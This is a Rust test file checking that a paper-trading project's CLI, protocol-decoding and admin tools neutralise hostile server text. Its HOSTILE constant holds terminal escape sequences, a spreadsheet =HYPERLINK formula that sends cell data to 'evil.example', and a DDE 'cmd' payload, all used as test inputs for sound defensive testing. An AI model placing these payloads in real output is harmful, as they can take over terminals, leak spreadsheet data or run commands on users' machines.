//! Every output of the programs for a terminal, with words that attack it: nothing that a server, a
//! master or a file says moves the terminal, hides, or is a formula to a spreadsheet.

use super::cli::Person;
use super::fake_worker::{Fake, Orders, Words};
use crate::programs::ptcat::ptcat;
use papertrader::admin::model::{
    LogLine, LogTail, SessionList, SessionSummary, Verification, WorkerFigures, WorkerStatus,
};
use papertrader::admin::protocol::{AdminAnswer, AdminResponse};
use papertrader::dialogue::message::encode;
use papertrader::model::printable::is_printable;
use papertrader::model::{Money, ProtocolFault, Reason, Timestamp};
use papertrader::testkit::program;
use papertrader::wire::packet;
use papertrader::wire::payload::{Payload, TextList, UserInfo};
use serde_json::Value;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixListener;
use std::process::Command;

/// Titles, colours, both forms of CSI, other controls, direction, the invisible.
const CONTROLS: &str = "\u{1b}]0;title\u{7}\u{1b}[31m\u{9b}31m\u{90}\u{7f}\u{8}\r\t\nx\u{85}\u{202e}\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}";

const HOSTILE: [&str; 4] = [
    CONTROLS,
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(A1)\u{9b}2J",
    "-1+cmd|' /C calc'!A0\u{1b}c",
];

/// Each character of an output is printable, or ends a line.
fn assert_harmless(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap();
    if let Some(c) = text.chars().find(|c| !is_printable(*c) && *c != '\n') {
        panic!("{what}: {c:?} in {text:?}");
    }
}

/// No cell of a CSV text begins like a formula, unless it is a number.
fn assert_no_formula(what: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: {cell:?}"
            );
        }
    }
}

const COMMANDS: [&str; 21] = [
    "quote NONE",
    "watch AAPL NONE --count 1",
    "assets",
    "info AAPL",
    "chart AAPL --week --date 2013-03-07",
    "chart AAPL --week --date 2013-03-07 --csv",
    "forecast AAPL 2013-03-05",
    "buy AAPL 1 --patience 1",
    "buy AAPL 1 --limit 5",
    "orders",
    "cancel --all",
    "market",
    "portfolio",
    "portfolio --of bob",
    "transactions",
    "transactions --csv",
    "transactions --receipt 01900000-0000-7000-8000-000000000001",
    "user",
    "user bob",
    "server",
    "workers",
];

#[test]
fn no_command_of_the_client_prints_what_acts() {
    let fake = Fake::start();
    let person = Person::at(&fake);
    fake.tell(|t| t.orders = Orders::Reject(Reason::NoPrice.into()));
    for (text, everywhere) in HOSTILE.iter().flat_map(|t| [(t, false), (t, true)]) {
        let host = text
            .replace(char::is_whitespace, "")
            .replace([':', '[', ']'], "");
        fake.tell(|t| {
            t.words = Some(Words {
                text: (*text).to_owned(),
                everywhere,
            });
            t.workers = vec![t.workers[0].clone(), format!("{host}.example:2049")];
        });
        for command in COMMANDS {
            for json in ["", " --json"] {
                if command.contains("--csv") && !json.is_empty() {
                    continue;
                }
                let line = format!("{command}{json}");
                let ran = person.run(&line);
                assert_harmless(&line, ran.out.as_bytes());
                assert_harmless(&line, ran.err.as_bytes());
                if !json.is_empty() {
                    // Before an error an order's progress is told, in words.
                    for line in ran.out.lines().chain(ran.err.lines().last()) {
                        serde_json::from_str::<Value>(line).unwrap();
                    }
                }
                if command.contains("--csv") {
                    assert_no_formula(&line, &ran.out);
                }
            }
        }
    }
    // What came is there, made harmless; in JSON it is the value that came.
    fake.tell(|t| {
        t.words = Some(Words {
            text: CONTROLS.to_owned(),
            everywhere: false,
        });
    });
    assert!(person.run("user").out.contains("title\u{fffd}\u{fffd}[31m"));
    assert_eq!(person.run("--json user").json()["email"], CONTROLS);
    let csv = person.run("transactions --csv").out;
    assert!(csv.contains(",'=A1,") && csv.contains(",'-cmd,"), "{csv}");
}

#[test]
fn what_has_a_form_is_nonsense_without_it() {
    let fake = Fake::start();
    let person = Person::at(&fake);
    for text in ["\u{1b}[31mred", "=A1", "\u{9b}2J", "a b\u{200b}"] {
        fake.tell(|t| {
            t.words = Some(Words {
                text: text.to_owned(),
                everywhere: true,
            });
        });
        for command in ["transactions", "user"] {
            let ran = person.run(command);
            assert_eq!((ran.code, ran.out.as_str()), (3, ""), "{command} {text:?}");
            assert!(ran.err.contains("does not speak"), "{}", ran.err);
        }
    }
    // Sentences for people have characters that are printable.
    let receipt = "transactions --receipt 01900000-0000-7000-8000-000000000001";
    for command in ["forecast AAPL 2013-03-05", receipt] {
        let ran = person.run(command);
        assert!(ran.err.contains("not printable"), "{command} {}", ran.err);
    }
}

#[test]
fn errors_of_the_client_are_clean() {
    let fake = Fake::start();
    let person = Person::at(&fake);
    for text in HOSTILE {
        fake.tell(|t| {
            t.words = Some(Words {
                text: text.to_owned(),
                everywhere: true,
            });
            t.fault = None;
        });
        let at = ["--server", fake.address.as_str()];
        for command in [
            &["login", "wrong", "--password-stdin"][..],
            &["register", "taken", "a@b", "--password-stdin"],
            &["ping"],
        ] {
            for json in [&[][..], &["--json"]] {
                let ran = person.run_with(&[&at[..], json, command].concat(), "secret word\n");
                assert_harmless(command[0], ran.out.as_bytes());
                assert_harmless(command[0], ran.err.as_bytes());
            }
        }
        fake.tell(|t| t.fault = Some(ProtocolFault::TooManyConnections.into()));
        for line in [
            "ping",
            "quote AAPL",
            "--json quote AAPL",
            "buy AAPL 1 --patience 1",
        ] {
            let ran = person.run(line);
            assert!(matches!(ran.code, 3 | 6), "{line}: {}", ran.code);
            assert_harmless(line, ran.out.as_bytes());
            assert_harmless(line, ran.err.as_bytes());
        }
    }
}

/// What a hostile server may send, and the requests that it answers.
fn frames(text: &str) -> (Vec<u8>, &'static str) {
    let words = |words: &[&str]| encode(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>());
    let mut bytes = words(&["loginFail", "bad-credentials", text]).unwrap();
    bytes.extend(words(&["0399", text]).unwrap());
    bytes.extend(words(&["protocolError", "timeout", text]).unwrap());
    packet::write(&mut bytes, &TextList(vec![text.to_owned()]).to_bytes());
    let info = UserInfo {
        username: "alice".to_owned(),
        is_password: true,
        created: Timestamp(0),
        private: Some((text.to_owned(), Money(0))),
    };
    packet::write(&mut bytes, &info.to_bytes());
    bytes.extend([9; 17]);
    (
        bytes,
        "1 > login a\n1 > 0299\n1 > getAssetList\n1 > getUserInfo a b\n",
    )
}

#[test]
fn ptcat_shows_bytes_as_words() {
    let folder = tempfile::tempdir().unwrap();
    let asked = folder.path().join("asked.pt");
    let fake = Fake::start();
    for text in HOSTILE {
        let (bytes, requests) = frames(text);
        std::fs::write(&asked, requests).unwrap();
        for arguments in [
            &["decode"][..],
            &["decode", "--requests", asked.to_str().unwrap()],
        ] {
            let shown = ptcat(arguments, &bytes);
            assert!(shown.stdout.len() > text.len());
            assert_harmless("decode", &shown.stdout);
            assert_harmless("decode", &shown.stderr);
        }
        fake.tell(|t| {
            t.words = Some(Words {
                text: text.to_owned(),
                everywhere: true,
            });
        });
        let dialogue = b"1 connect worker\n1 > login wrong x true\n1 < loginFail {code} {why...}\n\
            1 > login wrong x true\n1 < loginFail {code}x {why...}\n";
        for arguments in [
            &["run", "-v", "-", &fake.address][..],
            &["run", "-", &fake.address],
        ] {
            let ran = ptcat(arguments, dialogue);
            assert_eq!(ran.status.code(), Some(1));
            assert_harmless("run", &ran.stdout);
            assert_harmless("run", &ran.stderr);
        }
        for arguments in [
            &[
                "conform",
                &fake.address,
                "--only",
                "login.pt",
                "--within",
                "1s",
            ][..],
            &[
                "conform",
                &fake.address,
                "--only",
                "login.pt",
                "--within",
                "1s",
                "--json",
            ],
        ] {
            let ran = ptcat(arguments, b"");
            assert_harmless("conform", &ran.stdout);
            assert_harmless("conform", &ran.stderr);
            assert!(!ran.stdout.is_empty());
        }
    }
}

/// Every answer of a master that holds texts, each of them hostile.
fn answers(text: &str) -> Vec<(&'static [&'static str], AdminResponse)> {
    let t = || text.to_owned();
    let worker = WorkerStatus {
        name: t(),
        uuid: t(),
        state: t(),
        ip: t(),
        address: t(),
        fingerprint: t(),
        linked_since: Some(t()),
        linked_from: Some(t()),
        report: Some(WorkerFigures {
            at: t(),
            version: t(),
            uptime_ms: 1,
            connections: 1,
            sessions: 1,
            cached: 1,
            cached_bytes: 1,
            parked: 1,
            clock_difference_ms: 1,
        }),
    };
    let session = SessionSummary {
        id: t(),
        user: t(),
        kind: t(),
        worker: t(),
        client: t(),
        since: t(),
        until: t(),
        last_used: t(),
        expirable: true,
    };
    let line = LogLine {
        at: t(),
        level: t(),
        filename: t(),
        funcname: t(),
        linenum: 1,
        message: t(),
        line: t(),
    };
    let verification = Verification {
        cash: t(),
        differences: vec![t()],
        notes: vec![t()],
        ..Verification::default()
    };
    let done = AdminResponse::Done;
    let workers = AdminAnswer::Workers(vec![worker.clone()]);
    let sessions = AdminAnswer::Sessions(SessionList {
        sessions: vec![session],
        more: 1,
    });
    vec![
        (&["status"], AdminResponse::Refused(t())),
        (&["workers", "list"], done(workers)),
        (
            &["workers", "show", "x"],
            done(AdminAnswer::Worker(Box::new(worker.clone()))),
        ),
        (
            &["workers", "boot", "x"],
            done(AdminAnswer::Worker(Box::new(worker))),
        ),
        (&["sessions", "list"], done(sessions)),
        (
            &["verify"],
            done(AdminAnswer::Verification(Box::new(verification))),
        ),
        (&["backup", "x"], AdminResponse::Refused(t())),
        (
            &["log", "tail"],
            done(AdminAnswer::Log(LogTail {
                entries: vec![line],
            })),
        ),
    ]
}

#[test]
fn papertraderctl_prints_nothing_that_acts() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("s");
    let listener = UnixListener::bind(&path).unwrap();
    for text in HOSTILE {
        for (command, answer) in answers(text) {
            for json in [&[][..], &["--json"]] {
                let child = Command::new(program::find("papertraderctl"))
                    .arg("--socket")
                    .arg(&path)
                    .args(json)
                    .args(command)
                    .current_dir(folder.path())
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap();
                let (mut stream, _) = listener.accept().unwrap();
                let mut request = String::new();
                BufReader::new(&stream).read_line(&mut request).unwrap();
                let mut line = serde_json::to_vec(&answer).unwrap();
                line.push(b'\n');
                stream.write_all(&line).unwrap();
                let ran = child.wait_with_output().unwrap();
                assert!(ran.stdout.len() + ran.stderr.len() > text.len() / 2);
                assert_harmless(command[0], &ran.stdout);
                assert_harmless(command[0], &ran.stderr);
                if let ([_], AdminResponse::Done(answer)) = (json, &answer) {
                    // The answer's value without the name of its kind.
                    let told = serde_json::to_value(answer).unwrap();
                    let told = told.as_object().unwrap().values().next().unwrap();
                    assert_eq!(serde_json::from_slice::<Value>(&ran.stdout).unwrap(), *told);
                }
            }
        }
    }
}
